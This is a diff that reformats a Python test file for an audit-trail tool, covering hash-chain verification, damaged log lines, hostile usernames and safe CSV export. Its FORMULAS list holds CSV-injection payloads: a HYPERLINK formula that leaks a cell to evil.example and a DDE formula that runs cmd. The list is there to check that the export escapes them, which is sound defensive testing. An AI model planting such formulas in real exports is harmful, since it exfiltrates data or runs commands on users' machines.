@@ -55,8 +55,15 @@ def test_a_ten_megabyte_value_and_a_tail_longer_than_any_window(home):
 
 def _old_line(previous: str, user: str) -> str:
     """A line as the earlier writer made it: raw UTF-8, U+2028 unescaped."""
-    event = {"at": "2026-01-01T00:00:00.000+00:00", "kind": "access", "user": user, "purpose": None,
-             "action": "signed in", "details": {}, "previous": previous}  # fmt: skip
+    event = {
+        "at": "2026-01-01T00:00:00.000+00:00",
+        "kind": "access",
+        "user": user,
+        "purpose": None,
+        "action": "signed in",
+        "details": {},
+        "previous": previous,
+    }
     event["hash"] = audit._hash(previous, event)
     return json.dumps(event, ensure_ascii=False) + "\n"
 
@@ -83,14 +90,21 @@ def _lines(path: Path) -> list[bytes]:
 
 # A line that cannot be read hides the hash the next line chains to: where it replaced or
 # split a real line, the line after it is reported too ("and anything after it").
-@pytest.mark.parametrize(("damage", "bad", "good"), [
-    # a tool that treats U+2028 as a line end splits a line in two
-    (lambda ls: ls[:1] + ls[1].decode().replace("\\u2028", "\u2028").encode().split("\u2028".encode()) + ls[2:], [2, 3, 4], 3),
-    (lambda ls: ls[:2] + [ls[2][:40]] + ls[3:], [3, 4], 3),                            # a line cut short
-    (lambda ls: ls[:1] + [b"\xff\xfe not utf-8"] + ls[1:], [2], 5),                     # bytes that are not text
-    (lambda ls: ls[:3] + [b"[1, 2]"] + ls[3:], [4], 5),                                 # JSON but no event
-    (lambda ls: ls[:1] + [b"garbage"] + ls[1:3] + [b"{"] + ls[3:], [2, 5], 5),          # two faults: both found
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("damage", "bad", "good"),
+    [
+        # a tool that treats U+2028 as a line end splits a line in two
+        (
+            lambda ls: ls[:1] + ls[1].decode().replace("\\u2028", "\u2028").encode().split("\u2028".encode()) + ls[2:],
+            [2, 3, 4],
+            3,
+        ),
+        (lambda ls: ls[:2] + [ls[2][:40]] + ls[3:], [3, 4], 3),  # a line cut short
+        (lambda ls: ls[:1] + [b"\xff\xfe not utf-8"] + ls[1:], [2], 5),  # bytes that are not text
+        (lambda ls: ls[:3] + [b"[1, 2]"] + ls[3:], [4], 5),  # JSON but no event
+        (lambda ls: ls[:1] + [b"garbage"] + ls[1:3] + [b"{"] + ls[3:], [2, 5], 5),  # two faults: both found
+    ],
+)
 def test_verify_reports_every_line_it_cannot_read(home, damage, bad, good):
     path = _trail(home)
     path.write_bytes(b"\n".join(damage(_lines(path))) + b"\n")
@@ -124,13 +138,24 @@ def test_a_hostile_username_at_sign_in_breaks_nothing_after_it(home):
     added = CliRunner().invoke(cli, ["users", "add", "nadia.o", "--role", "cse_analyst"])
     assert added.exit_code == 0, added.output
     actions = [(e["user"], e["action"]) for e in audit.events(home)]
-    assert actions == [("x\u2028y", "sign-in refused"), (username, "signed in"), (username, "audit trail viewed"),
-                       ("admin.one", "account added")]  # fmt: skip
+    assert actions == [
+        ("x\u2028y", "sign-in refused"),
+        (username, "signed in"),
+        (username, "audit trail viewed"),
+        ("admin.one", "account added"),
+    ]
     verified = CliRunner().invoke(cli, ["audit", "verify"])
     assert verified.exit_code == 0 and "4 events" in verified.output
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_the_csv_export_runs_no_formula_is_owner_only_and_is_itself_audited(home, tmp_path):
@@ -149,7 +174,11 @@ def test_the_csv_export_runs_no_formula_is_owner_only_and_is_itself_audited(home
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
     last = list(audit.events(home))[-1]
     assert (last["kind"], last["action"], last["details"]["format"], last["details"]["events"]) == (
-        "disclosure", "audit trail exported", "csv", len(FORMULAS))
+        "disclosure",
+        "audit trail exported",
+        "csv",
+        len(FORMULAS),
+    )
     jsonl = tmp_path / "trail.jsonl"
     assert CliRunner().invoke(cli, ["audit", "export", "--out", str(jsonl)]).exit_code == 0
     assert oct(jsonl.stat().st_mode & 0o777) == "0o600" and jsonl.read_bytes().isascii()
